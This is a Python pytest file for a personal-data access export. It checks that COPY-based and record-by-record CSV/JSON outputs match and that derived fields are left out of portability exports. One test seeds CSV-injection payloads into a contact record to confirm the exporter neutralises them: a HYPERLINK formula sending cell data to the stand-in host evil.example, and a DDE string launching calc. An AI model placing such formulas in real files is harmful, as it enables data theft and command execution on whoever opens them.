"""The sql connector's bulk read for access packages (PostgreSQL writes the JSON lines and CSV
rows with COPY) gives files that read exactly as those built record by record from `access`."""

from __future__ import annotations

from dataclasses import replace

import pytest

from activities.packages import _part_opener, _Spool, filled, portable, spool_for
from tests.sql_demo import ADA, GRACE, Systems
from tests.support import read_spool


def _read(spools: dict[tuple[str, str, str], _Spool]) -> dict[tuple[str, str, str], tuple[list, list]]:
    return {key: read_spool(spool) for key, spool in spools.items()}


async def _both(systems: Systems, system: str, subject, portability: bool = False):
    by_record: dict[tuple[str, str, str], _Spool] = {}
    async for record in systems.connectors[system].access(subject):
        fields = portable(record) if portability else record.fields
        if fields:
            spool_for(by_record, (system, record.dataset, record.category)).add(fields, record.origin_of)
    by_copy: dict[tuple[str, str, str], _Spool] = {}
    await systems.connectors[system].export(subject, _part_opener(by_copy, system, portability))
    return _read(by_record), _read(filled(by_copy))


@pytest.mark.parametrize("system", ["crm", "analytics", "billing"])
async def test_copied_files_read_as_the_records_do(systems: Systems, system: str) -> None:
    # Values that differ in how each side writes them: fractions of a second (and none), text
    # with a line break, quotes and a comma.
    await systems.fetch("crm", "UPDATE contacts SET first_name = E'Ada \"Countess\",\\nof Lovelace', "
                               "created_at = '2026-01-02 03:04:05.12+01' WHERE lower(email) = 'ada@example.com'")
    await systems.fetch("analytics", "UPDATE page_events SET occurred_at = date_trunc('second', occurred_at) "
                                     "WHERE id % 2 = 0")
    records, copied = await _both(systems, system, ADA)
    assert records and set(copied) == set(records)
    assert copied == records
    if system == "crm":
        account = copied[("crm", "contacts", "account")][0]
        assert 'Ada "Countess",\nof Lovelace' in [r.get("first_name") for r in account]
        assert "2026-01-02T02:04:05.12+00:00" in [r.get("created_at") for r in account]


async def test_portability_leaves_out_what_we_derived_or_inferred(systems: Systems) -> None:
    records, copied = await _both(systems, "crm", ADA, portability=True)
    assert copied == records
    # One record a row and category, whatever the origins of its columns.
    contacts = await systems.fetch("crm", "SELECT id FROM contacts WHERE lower(email) = 'ada@example.com'")
    assert len(copied[("crm", "contacts", "marketing")][0]) == len(contacts)
    columns = {column for data, _ in copied.values() for record in data for column in record}
    # Observed data (when she signed up and was last seen) is hers to take along (WP242 rev.01);
    # staff notes and the CRM's engagement segment are ours.
    assert {"email", "first_name", "created_at", "last_seen_at", "transcript", "started_at"} <= columns
    assert not columns & {"notes", "engagement_segment"}


async def test_a_subject_with_nothing_in_a_system_gets_no_files(systems: Systems) -> None:
    records, copied = await _both(systems, "crm", replace(GRACE, request_id="r-none", email="nobody@example.com"))
    assert records == copied == {}


async def test_formulas_in_a_subjects_data_do_not_run_when_the_csv_is_opened(systems: Systems) -> None:
    """CSV injection (issue 14, item 10): text someone typed into a CRM field, written by COPY
    and record by record alike, opens in a spreadsheet as text; a credit note's negative amount
    stays a number, and the JSON keeps every value exactly."""
    attack = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    await systems.fetch("crm", "UPDATE contacts SET first_name = $1, last_name = '@SUM(1+1)', "
                               "notes = E'\\t-2+3+cmd|'' /C calc''!A0', phone = '+32 470 12 34 56' "
                               "WHERE lower(email) = 'ada@example.com'", attack)
    await systems.fetch("billing", "UPDATE invoices SET net_amount = -12.50 WHERE customer_id IN "
                                   "(SELECT id FROM customers WHERE lower(email) = 'ada@example.com')")
    for system in ("crm", "billing"):
        records, copied = await _both(systems, system, ADA)
        assert copied == records
    records, copied = await _both(systems, "crm", ADA)
    data, rows = copied[("crm", "contacts", "account")]
    header, first = rows[0], rows[1]
    cell = dict(zip(header, first, strict=True))
    assert cell["first_name"] == "'" + attack
    assert cell["last_name"] == "'@SUM(1+1)"
    assert cell["phone"] == "'+32 470 12 34 56"
    assert data[0]["first_name"] == attack and data[0]["last_name"] == "@SUM(1+1)"
    notes = [dict(zip(part_rows[0], r, strict=True))["notes"] for _, part_rows in copied.values() for r in part_rows[1:]
             if "notes" in part_rows[0]]
    assert notes and all(n.startswith("'\t-2+3") for n in notes if n)
    _, copied_billing = await _both(systems, "billing", ADA)
    invoices = next(rows for key, (_, rows) in copied_billing.items() if key[1] == "invoices")
    amounts = [dict(zip(invoices[0], r, strict=True))["net_amount"] for r in invoices[1:]]
    assert "-12.50" in amounts and all(not a.startswith("'") for a in amounts)
